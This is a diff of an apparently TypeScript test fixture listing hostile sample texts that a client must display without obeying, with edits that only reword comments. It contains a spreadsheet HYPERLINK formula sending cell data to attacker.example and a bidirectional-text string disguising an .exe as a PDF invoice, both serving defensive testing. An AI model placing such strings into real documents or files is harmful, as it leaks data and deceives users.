@@ -1,8 +1,9 @@
 const LONG = 10_000
 
 /**
- * Texts that a client must show without obeying them, one of each kind. Whatever tries to run sets `window.__xss`. Their
- * number is a prime, so that a few places can be dealt to in many ways without one of them getting the same text twice.
+ * Texts that a client must show without obeying them, one of each kind. Whatever tries to run sets `window.__xss`.
+ * Their number is a prime, so that a few positions can be dealt to in many ways without one of them getting the same
+ * text twice.
  */
 export const hostileTexts = {
   markup:
@@ -12,7 +13,7 @@ export const hostileTexts = {
   formula: '=HYPERLINK("https://attacker.example?"&A1,"click")',
   /** Marks that turn the direction round, and characters without a width. */
   bidi: 'invoice\u202Efdp.exe\u2066 un\u200B\u2060seen\uFEFF \u200Fend',
-  /** One word without a location to break it. */
+  /** One word without a position to break it. */
   longWord: 'Wide'.repeat(LONG / 4),
   longProse: 'much to read '.repeat(LONG / 13 + 1).slice(0, LONG),
   proto: '__proto__',
@@ -31,7 +32,7 @@ const texts: readonly string[] = Object.values(hostileTexts)
 /** Any whole number as one of the texts. */
 export const hostileText = (at: number): string => texts[at % texts.length] ?? ''
 
-/** One text for each place from `first` on, `step` apart. */
+/** One text for each position from `first` on, `step` apart. */
 export const dealt = (first: number, step = 1): ((index: number) => string) => {
   return (index) => hostileText(first + index * step)
 }
